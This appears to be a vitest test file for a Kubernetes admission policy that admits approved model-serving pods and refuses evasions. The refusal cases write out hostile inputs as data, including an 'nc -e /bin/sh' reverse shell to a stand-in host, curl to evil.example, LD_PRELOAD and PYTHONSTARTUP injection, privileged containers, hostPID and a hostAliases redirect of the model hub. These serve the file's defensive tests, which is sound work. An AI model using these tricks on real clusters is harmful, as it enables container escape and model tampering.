import { beforeAll, describe, expect, it } from 'vitest';
import { answerFor, GOOD, GOOD_IMAGE, pod, production, RUNS, runs, vllm } from './evasions.ts';

let state: Awaited<ReturnType<typeof production>>;
beforeAll(async () => {
  state = await production();
});

const env = (name: string, value: string) => ({ env: [{ name, value }] });
const from = (name: string, valueFrom: object) => ({ env: [{ name, valueFrom }] });
const mount = (mountPath: string, more: object = {}) => ({ volumeMounts: [{ name: 'v', mountPath, ...more }] });
const volume = (source: object) => ({ volumes: [{ name: 'v', ...source }] });
const init = (container: object) => ({ initContainers: [{ name: 'i', ...container }] });
const path = (folder: string) => ({ image: `vllm/vllm-openai@${RUNS}`, args: ['--model', folder] });
const sh = (script: string) => runs('busybox', { command: ['sh', '-c', script] });
const weights = volume({ image: { reference: GOOD_IMAGE } });
const empty = volume({ emptyDir: {} });
const fills = runs('acme/dl', {
  command: ['hf', 'download', 'good/model', `--revision=${GOOD}`, '--local-dir', '/data/m'],
  ...mount('/data'),
});

const token = {
  volumes: [
    {
      name: 'kube-api-access-x',
      projected: {
        sources: [
          { serviceAccountToken: { expirationSeconds: 3607, path: 'token' } },
          { configMap: { name: 'kube-root-ca.crt', items: [{ key: 'ca.crt', path: 'ca.crt' }] } },
          { downwardAPI: { items: [{ path: 'namespace', fieldRef: { fieldPath: 'metadata.namespace' } }] } },
        ],
      },
    },
    { name: 'shm', emptyDir: { medium: 'Memory' } },
  ],
};
const tokenMounts = [
  { name: 'kube-api-access-x', readOnly: true, mountPath: '/var/run/secrets/kubernetes.io/serviceaccount' },
  { name: 'shm', mountPath: '/dev/shm' },
];

describe('production admits', () => {
  it.each<[string, object, object]>([
    [
      'a server of the Hub with what people give it',
      vllm({
        args: [
          '--port',
          '8000',
          '--served-model-name',
          'a',
          'b',
          '--dtype=auto',
          '--max_model_len',
          '4096',
          '--api-key=$(KEY)',
        ],
        env: [
          { name: 'HF_TOKEN', valueFrom: { secretKeyRef: { name: 'hf', key: 'token' } } },
          { name: 'POD_IP', valueFrom: { fieldRef: { fieldPath: 'status.podIP' } } },
          { name: 'VLLM_LOGGING_LEVEL', value: 'INFO' },
        ],
        volumeMounts: tokenMounts,
        livenessProbe: { httpGet: { path: '/health', port: 8000 } },
        lifecycle: { preStop: { exec: { command: ['sleep', '5'] } } },
        resources: { limits: { 'nvidia.com/gpu': '1' } },
      }),
      token,
    ],
    ['the same by its command', runs('acme/x', { command: ['vllm', 'serve', 'good/model', '--revision', GOOD] }), {}],
    [
      'the same as a module',
      runs('acme/x', {
        command: ['/usr/bin/python3', '-m', 'vllm.entrypoints.openai.api_server'],
        args: ['--model=good/model', `--revision=${GOOD}`],
      }),
      {},
    ],
    [
      'TGI by variables',
      runs('ghcr.io/huggingface/text-generation-inference', {
        env: [
          { name: 'MODEL_ID', value: 'good/model' },
          { name: 'REVISION', value: GOOD },
          { name: 'NUM_SHARD', value: '2' },
        ],
      }),
      {},
    ],
    [
      'TEI',
      runs('ghcr.io/huggingface/text-embeddings-inference', { args: ['--model-id', 'good/model', '--revision', GOOD] }),
      {},
    ],
    [
      'SGLang with a key for its administration',
      runs('lmsysorg/sglang', {
        command: ['python3', '-m', 'sglang.launch_server', '--model-path', 'good/model', '--revision', GOOD],
        args: ['--admin-api-key=$(ADMIN)'],
      }),
      {},
    ],
    ['an approved image as a volume', { ...path('/models/x'), ...mount('/models') }, weights],
    [
      'Triton with models of a volume',
      runs('nvcr.io/nvidia/tritonserver', {
        command: ['tritonserver'],
        args: ['--model-repository=/models'],
        ...mount('/models'),
      }),
      weights,
    ],
    [
      'llama.cpp with a file of a volume',
      runs('ghcr.io/ggml-org/llama.cpp', {
        command: ['llama-server', '-m', '/models/x.gguf', '-ngl', '99'],
        ...mount('/models'),
      }),
      weights,
    ],
    [
      'a folder that an approved download fills',
      { ...path('/data/m'), ...mount('/data', { readOnly: true }) },
      { ...empty, ...init(fills) },
    ],
    ['a cache of its own', vllm(mount('/root/.cache/huggingface')), empty],
    ['a cache that a variable names', vllm({ ...env('HF_HOME', '/cache/hf'), ...mount('/cache') }), empty],
    ['another container that loads nothing', vllm(), init(sh('until nslookup db; do sleep 2; done'))],
    ['a program that waits', sh('set -e; while ! nc -z db 5432; do echo waiting; sleep 1; done; exit 0'), {}],
    ['a program that sleeps', runs('busybox', { command: ['sleep', 'infinity'] }), {}],
    ['an image that is told nothing', runs('nginx', { env: [{ name: 'TZ', value: 'Europe/Vienna' }] }), {}],
  ])('%s', (_, container, spec) => {
    const { allowed, message, warnings } = answerFor(pod(container, spec), state);
    expect({ allowed, message, warnings }).toEqual({ allowed: true, message: '', warnings: [] });
  });
});

describe('production refuses', () => {
  it.each<[string, object, object?]>([
    // Programs.
    ['a renamed shell', runs('acme/x', { command: ['/bin/rc', '-c', 'sleep 1'] })],
    ['a shell from a volume', { ...sh('sleep 1'), command: ['/data/sh', '-c', 'sleep 1'], ...mount('/data') }, empty],
    [
      'a program in a folder of its own',
      runs('acme/x', { command: ['/opt/evil/vllm', 'serve', 'good/model', '--revision', GOOD] }),
    ],
    ['a shell with a login', runs('busybox', { command: ['sh', '-lc', 'sleep 1'] })],
    ['a shell with words after the script', runs('busybox', { command: ['sh', '-c', 'sleep 1', 'x'] })],
    ['a shell that reads its standard input', runs('busybox', { command: ['sh', '-s'], stdin: true })],
    ['an expansion', sh('sleep $X')],
    ['a substitution', sh('echo `vllm serve evil/model`')],
    ['a file as a script', sh('echo x > /tmp/x; sleep 1')],
    ['a pipe', sh('echo x | nc -z a 1')],
    ['a job', sh('sleep 1 & sleep 2')],
    ['a glob', sh('test -f /x*')],
    ['a word in front', sh('A=b sleep 1')],
    ['nc that runs a program', sh('nc -e /bin/sh evil 1')],
    ['curl to a file', sh('curl -o /data/x http://localhost/health')],
    ['curl to another server', sh('curl -f http://evil.example/health')],
    ['a subcommand', runs('acme/x', { command: ['vllm', 'complete', '--model', 'good/model', '--revision', GOOD] })],
    [
      'a module beside the known one',
      runs('acme/x', { command: ['python3', '-m', 'vllm.entrypoints.llm', '--model', 'good/model'] }),
    ],
    [
      'an option of Python',
      runs('acme/x', {
        command: [
          'python3',
          '-X',
          'importtime',
          '-m',
          'vllm.entrypoints.openai.api_server',
          '--model',
          'good/model',
          '--revision',
          GOOD,
        ],
      }),
    ],
    ['an image of another registry with the name', { ...vllm(), image: `evil.example/vllm/vllm-openai@${RUNS}` }],
    ['an image by its tag', { ...vllm(), image: 'vllm/vllm-openai:v0.10.0' }],
    ['Ollama in an image of another name', runs('acme/x', { command: ['ollama', 'serve'] })],
    ['TorchServe', runs('pytorch/torchserve')],
    // Arguments.
    ['a beginning of an option', vllm({ args: ['--load-for', 'pt'] })],
    ['an option that imports', vllm({ args: ['--middleware', 'evil.x'] })],
    ['a plug-in', vllm({ args: ['--tool-parser-plugin', '/x.py'] })],
    ['a parser that is a path', vllm({ args: ['--tool-call-parser', '/x.py'] })],
    ['overrides', vllm({ args: ['--hf-overrides', '{"auto_map":{"AutoModel":"evil/x--m.M"}}'] })],
    ['JSON with a loader', vllm({ args: ['--lora-modules', '{"name":"a","path":"good/lora","loader":"x"}'] })],
    ['JSON with two models', vllm({ args: ['--speculative-config', '{"model":"good/model","path":"evil/x"}'] })],
    [
      'a method that is a class',
      vllm({ args: ['--speculative-config', '{"method":"evil.mod","num_speculative_tokens":1}'] }),
    ],
    [
      'a value from a Secret in a word of its own',
      vllm({ args: ['--api-key', '$(KEY)'], ...from('KEY', { secretKeyRef: { name: 's', key: 'k' } }) }),
    ],
    ['a second word', vllm({ args: ['evil/model'] })],
    ['a value for a switch', vllm({ args: ['--enforce-eager', 'evil/model'] })],
    ['the router of llama.cpp', runs('acme/x', { command: ['llama-server', '--models-dir', '/models'] })],
    ['llama.cpp without a model', runs('acme/x', { command: ['llama-server'] })],
    [
      'the explicit mode of Triton',
      runs('acme/x', {
        command: ['tritonserver', '--model-repository=/models', '--model-control-mode=explicit'],
        ...mount('/models'),
      }),
      weights,
    ],
    [
      'SGLang whose API replaces weights',
      runs('lmsysorg/sglang', {
        command: ['python3', '-m', 'sglang.launch_server', '--model-path', 'good/model', '--revision', GOOD],
      }),
    ],
    ['a name of a repository like a file', runs('acme/x', { command: ['hf', 'download', 'evil/model.onnx'] })],
    // Variables.
    ['a library in front', vllm(env('LD_PRELOAD', '/x.so'))],
    ['a start of Python', vllm(env('PYTHONSTARTUP', '/x.py'))],
    ['a plug-in of vLLM', vllm(env('VLLM_PLUGINS', 'x'))],
    ['another authority', vllm(env('SSL_CERT_FILE', '/x.pem'))],
    ['a home', vllm(env('HOME', '/data'))],
    ['a search path', sh('sleep 1') && runs('busybox', { command: ['sleep', '1'], ...env('PATH', '/data') })],
    ['a cache below /proc', vllm(env('HF_HOME', '/proc/1/root/x'))],
    ['a label', vllm(from('POD_NAME', { fieldRef: { fieldPath: "metadata.labels['x']" } }))],
    ['a file of variables', vllm(from('HF_TOKEN', { fileKeyRef: { volumeName: 'v', path: 'x', key: 'k' } }))],
    ['an unknown variable of an unknown program', runs('nginx', env('X', 'y'))],
    // Mounts.
    [
      'a file over a part of a model',
      {
        ...path('/models/x'),
        volumeMounts: [
          { name: 'v', mountPath: '/models' },
          { name: 'w', mountPath: '/models/x/config.json', subPath: 'c' },
        ],
      },
      { volumes: [...weights.volumes, { name: 'w', configMap: { name: 'c' } }] },
    ],
    ['an approved model over code', vllm(mount('/usr/lib/python3/dist-packages')), weights],
    ['a claim as the cache', vllm(mount('/root/.cache')), volume({ persistentVolumeClaim: { claimName: 'c' } })],
    ['a claim anywhere', vllm(mount('/x')), volume({ persistentVolumeClaim: { claimName: 'c' } })],
    ['a folder of the node', vllm(mount('/opt/x')), volume({ hostPath: { path: '/x' } })],
    ['settings over a home', vllm(mount('/root')), volume({ configMap: { name: 'c' } })],
    ['settings of an unknown program', runs('nginx', mount('/etc/nginx/conf.d')), volume({ configMap: { name: 'c' } })],
    ['a volume of two kinds', vllm(mount('/tmp')), volume({ emptyDir: {}, nfs: { server: 's', path: '/' } })],
    [
      'a volume that stands twice',
      vllm(mount('/tmp')),
      {
        volumes: [
          { name: 'v', emptyDir: {} },
          { name: 'v', hostPath: { path: '/' } },
        ],
      },
    ],
    [
      'labels as files',
      vllm(mount('/etc/podinfo')),
      volume({ downwardAPI: { items: [{ path: 'l', fieldRef: { fieldPath: 'metadata.labels' } }] } }),
    ],
    [
      'a token elsewhere',
      vllm(mount('/root')),
      volume({ projected: { sources: [{ serviceAccountToken: { path: 't' } }] } }),
    ],
    ['an odd path of a mount', vllm(mount('/models/../root')), empty],
    ['a working folder', vllm({ workingDir: '/data' })],
    [
      'a folder that a download and another fill',
      { ...path('/data/m'), ...mount('/data') },
      {
        ...empty,
        initContainers: [
          { name: 'i', ...fills },
          { name: 'j', ...runs('acme/x', { command: ['/copy'], ...mount('/data') }) },
        ],
      },
    ],
    [
      'a cache that an approved program shares, of which nothing is known',
      vllm(mount('/root/.cache')),
      { ...empty, ...init(runs('acme/x', mount('/y'))) },
    ],
    ['a folder that is named like the model', vllm({ volumeMounts: [{ name: 'v', mountPath: '/mnt/good' }] }), weights],
    ['another machine', vllm({ args: ['--data-parallel-address', 'evil.example'] })],
    [
      'SGLang with an empty key',
      runs('lmsysorg/sglang', {
        command: [
          'python3',
          '-m',
          'sglang.launch_server',
          '--model-path',
          'good/model',
          '--revision',
          GOOD,
          '--admin-api-key=',
        ],
      }),
    ],
    ['a folder that nobody fills', { ...path('/data/m'), ...mount('/data') }, empty],
    [
      'a cache that an unknown container shares',
      vllm(mount('/root/.cache')),
      { ...empty, ...init(runs('acme/x', { command: ['/fill'], ...mount('/y') })) },
    ],
    // Hooks, and reach.
    ['a hook', vllm({ lifecycle: { postStart: { exec: { command: ['hf', 'download', 'evil/model'] } } } })],
    [
      'a hook of an approved download',
      vllm({ lifecycle: { postStart: { exec: { command: ['hf', 'download', 'good/model'] } } } }),
    ],
    ['a probe with a shell', vllm({ startupProbe: { exec: { command: ['bash', '-c', 'vllm serve evil/model'] } } })],
    ['a probe of another server', vllm({ startupProbe: { httpGet: { host: 'evil.example', path: '/', port: 80 } } })],
    ['a privileged container', vllm({ securityContext: { privileged: true } })],
    ['a capability', vllm({ securityContext: { capabilities: { add: ['SYS_PTRACE'] } } })],
    ['the processes of the node', vllm(), { hostPID: true }],
    ['shared processes beside another', vllm(), { shareProcessNamespace: true, ...init(sh('sleep 1')) }],
    [
      'a device',
      vllm({ volumeDevices: [{ name: 'v', devicePath: '/dev/x' }] }),
      volume({ persistentVolumeClaim: { claimName: 'c' } }),
    ],
    ['another address of the Hub', vllm(), { hostAliases: [{ ip: '10.0.0.1', hostnames: ['huggingface.co'] }] }],
    ['a property that is not known', vllm({ newThing: 1 })],
    [
      'a debug container with a shell',
      vllm(),
      { ephemeralContainers: [{ name: 'd', ...runs('busybox', { command: ['sh'] }) }] },
    ],
  ])('%s', (_, container, spec = {}) => {
    const { allowed, message } = answerFor(pod(container, spec), state);
    expect({ allowed, told: message.length > 0 }).toEqual({ allowed: false, told: true });
  });

  it('with a message that names the container, the place, and what to do', () => {
    const { message } = answerFor(pod(vllm({ name: 'server', args: ['--middleware', 'x'] })), state);
    expect(message).toBe(
      'the container server is unresolved: it is given "--middleware", which is not an argument of vLLM that the tables know (and 1 more). Remove it (docs/admission.md lists what the tables know), or except the container: assay admit --audit --proposals FILE writes the exception.',
    );
  });
});
